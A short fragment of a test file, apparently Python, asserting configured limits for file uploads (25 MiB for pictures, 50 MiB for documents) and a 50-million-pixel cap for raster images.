    assert intake.MOST_BYTES == {Kind.PICTURE: 25 * 1024 * 1024, Kind.DOCUMENT: 50 * 1024 * 1024}
    assert raster.MOST_PIXELS == 50_000_000
